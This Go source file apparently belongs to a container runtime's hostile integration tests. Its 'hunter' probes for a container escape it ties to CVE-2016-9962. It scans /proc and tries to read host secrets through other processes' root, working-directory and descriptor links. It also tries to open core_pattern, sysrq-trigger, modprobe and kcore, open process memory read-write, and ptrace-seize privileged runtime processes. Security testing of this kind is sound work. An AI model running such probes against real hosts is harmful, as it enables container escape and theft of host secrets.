package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"

	"github.com/rkt/containerd-shim-rkt-v1/integration/hostile/loot"
)

// hunter examines every process that it sees, again and again.
type hunter struct {
	target
	self   int
	bound  uint64         // capabilities that this container may have
	filter bool           // this container has a filter of system calls
	images map[int64]bool // sizes of the programs in images
	number int
}

// hunt is the attack of CVE-2016-9962: a process of the runtime that is about to become a
// container's can be seen from inside the container. hunt tries to reach its root, its
// descriptors, its working directory, its memory and its program. With the argument "once"
// it examines the present processes once and ends.
func (t target) hunt(args []string) {
	runtime.LockOSThread() // only the tracing thread can use ptrace(2)
	h := &hunter{target: t, self: os.Getpid()}
	own := status("/proc/self/status")
	h.bound, _ = strconv.ParseUint(own["CapBnd"], 16, 64)
	h.filter = own["Seccomp"] == "2"
	h.know()
	ready()
	for once := slices.Contains(args, "once"); ; {
		for _, pid := range processes() {
			if pid != h.self {
				h.raid(pid)
			}
		}
		if once {
			return
		}
	}
}

// processes lists the processes in /proc, the youngest first.
func processes() (pids []int) {
	dir, err := os.Open("/proc")
	must(err)
	defer dir.Close()
	names, _ := dir.Readdirnames(-1) // processes that end meanwhile do not matter
	for _, n := range names {
		if pid, err := strconv.Atoi(n); err == nil {
			pids = append(pids, pid)
		}
	}
	slices.Sort(pids)
	slices.Reverse(pids)
	return pids
}

func (h *hunter) raid(pid int) {
	proc := fmt.Sprintf("/proc/%d/", pid)
	// Open first the files that a process has for the shortest time.
	h.takeFiles(proc)
	h.takeDescriptors(proc)
	h.takeProc(proc)
	h.takeMemory(proc)
	h.takeOver(pid, proc)
}

// takeFiles reads and creates files of the host through a process whose root is the host's.
func (h *hunter) takeFiles(proc string) {
	for _, dir := range []string{"root", "cwd/../../../../../../../../.."} {
		h.takeSecrets(proc, dir)
		for _, sticky := range h.sticky {
			h.number++
			file := fmt.Sprintf("%s%s%s/loot-%d-%d", proc, dir, sticky, h.self, h.number)
			if fd, err := unix.Open(file, unix.O_CREAT|unix.O_EXCL|unix.O_WRONLY|unix.O_CLOEXEC, 0o600); err == nil {
				unix.Close(fd)
				got(loot.Write, "created through %s", name(proc)+dir)
			}
		}
	}
}

// takeSecrets reads the secrets below a directory of a process.
func (h *hunter) takeSecrets(proc, dir string) {
	for _, secret := range h.secrets {
		h.takeSecret(proc, dir, secret)
	}
}

func (h *hunter) takeSecret(proc, dir, secret string) {
	f, err := os.Open(proc + dir + secret)
	if err != nil {
		return
	}
	defer f.Close()
	how := "through " + name(proc) + dir + " of " + h.describe(proc)
	if b, err := io.ReadAll(f); err == nil {
		loot.Say(os.Stdout, loot.Loot{What: loot.Read, How: how, Secret: strings.TrimSpace(string(b))})
	}
}

// takeDescriptors tries to reach the secrets from descriptors that are directories.
func (h *hunter) takeDescriptors(proc string) {
	names, err := readNames(proc + "fd")
	if err != nil {
		return
	}
	for _, n := range names {
		h.takeSecrets(proc, "fd/"+n+"/../../../../../../../../../..")
	}
}

// takeProc tries to open files of the whole machine.
func (h *hunter) takeProc(proc string) {
	for _, file := range []string{"sys/kernel/core_pattern", "sysrq-trigger", "sys/kernel/modprobe"} {
		if fd, err := unix.Open(proc+"root/proc/"+file, unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
			unix.Close(fd)
			if h.ofThisSuite(proc) {
				got(loot.Write, "%s of %s", name(proc)+"root/proc/"+file, h.describe(proc))
			}
		}
	}
	for _, file := range []string{"kcore", "keys", "timer_list"} {
		b := make([]byte, 16)
		fd, err := unix.Open(proc+"root/proc/"+file, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		if n, err := unix.Read(fd, b); n > 0 && err == nil && h.ofThisSuite(proc) {
			got(loot.Read, "%s of %s", name(proc)+"root/proc/"+file, h.describe(proc))
		}
		unix.Close(fd)
	}
}

// ofThisSuite reports whether the root of a process is the host's or that of an image of this suite. In the host's
// PID namespace there can be containers that somebody else has given such files.
func (h *hunter) ofThisSuite(proc string) bool {
	return slices.ContainsFunc([]string{h.sticky[0], "/bin/attacker"}, func(file string) bool {
		return unix.Access(proc+"root"+file, unix.F_OK) == nil
	})
}

// takeMemory opens the memory of a process that has more rights than the container.
func (h *hunter) takeMemory(proc string) {
	fd, err := unix.Open(proc+"mem", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer unix.Close(fd)
	// The rights are read after the memory was opened. By then they are the same or less,
	// because the process becomes one of a container.
	if why := h.more(proc); why != "" {
		got(loot.Process, "the memory of %s, %s", h.describe(proc), why)
	}
}

// more returns the rights that a process of the runtime has and this container lacks. To
// trace a process of a container without further rights is no loot.
func (h *hunter) more(proc string) string {
	theirs := status(proc + "status")
	if caps, err := strconv.ParseUint(theirs["CapPrm"], 16, 64); err == nil && caps&^h.bound != 0 {
		return "with capabilities " + theirs["CapPrm"]
	}
	if h.filter && theirs["Seccomp"] == "0" {
		return "without a filter of system calls"
	}
	if !h.foreign(proc) {
		return ""
	}
	names, _ := readNames(proc + "fd")
	for _, n := range names {
		link, _ := os.Readlink(proc + "fd/" + n)
		if strings.HasPrefix(link, "socket:") || strings.Contains(link, "cgroup") {
			return "with a descriptor of " + strings.TrimRight(link, ":[]0123456789")
		}
	}
	return ""
}

// know records the programs of containers. All containers have the same programs, each in a
// file system of its own. Their sizes distinguish them from the runtime's programs.
func (h *hunter) know() {
	h.images = map[int64]bool{}
	for _, program := range []string{"/bin/attacker", "/bin/busybox"} {
		var st unix.Stat_t
		must(unix.Stat(program, &st))
		h.images[st.Size] = true
	}
}

// foreign reports whether the program of a process can be read and is not one of a container.
func (h *hunter) foreign(proc string) bool {
	var st unix.Stat_t
	return unix.Stat(proc+"exe", &st) == nil && !h.images[st.Size]
}

// takeOver seizes a process. A seizure alone is no loot, because the container may seize its
// other processes.
func (h *hunter) takeOver(pid int, proc string) {
	if unix.PtraceSeize(pid) != nil {
		return
	}
	if why := h.more(proc); why != "" {
		got(loot.Process, "seized %s, %s", h.describe(proc), why)
	}
	letGo(pid)
}

// letGo ends the tracing of a process. A detach needs a stopped process. A process that has ended must be waited for:
// until its tracer has done that, its parent, the runtime's supervisor, cannot reap it.
func letGo(pid int) {
	_ = unix.PtraceInterrupt(pid)
	for {
		var ws unix.WaitStatus
		_, err := unix.Wait4(pid, &ws, unix.WALL, nil)
		if errors.Is(err, unix.EINTR) {
			continue
		}
		// A detach that fails is of a process that was killed: its end is waited for.
		if err != nil || !ws.Stopped() || unix.PtraceDetach(pid) == nil {
			return
		}
	}
}

// describe returns the command line of a process, which may have ended.
func (h *hunter) describe(proc string) string {
	b, _ := os.ReadFile(proc + "cmdline")
	exe, _ := os.Readlink(proc + "exe")
	return strings.TrimSpace(strings.ReplaceAll(string(b), "\x00", " ")) + " (" + filepath.Base(exe) + ")"
}

// name returns a path below /proc without the pid, which differs from run to run.
func name(proc string) string {
	if proc == "/proc/1/" {
		return proc
	}
	return "/proc/PID/"
}

func readNames(dir string) ([]string, error) {
	f, err := os.Open(dir)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return f.Readdirnames(-1)
}

// status reads a /proc/PID/status.
func status(file string) map[string]string {
	b, _ := os.ReadFile(file)
	all := map[string]string{}
	for line := range strings.Lines(string(b)) {
		if k, v, ok := strings.Cut(line, ":"); ok {
			all[k] = strings.TrimSpace(v)
		}
	}
	return all
}
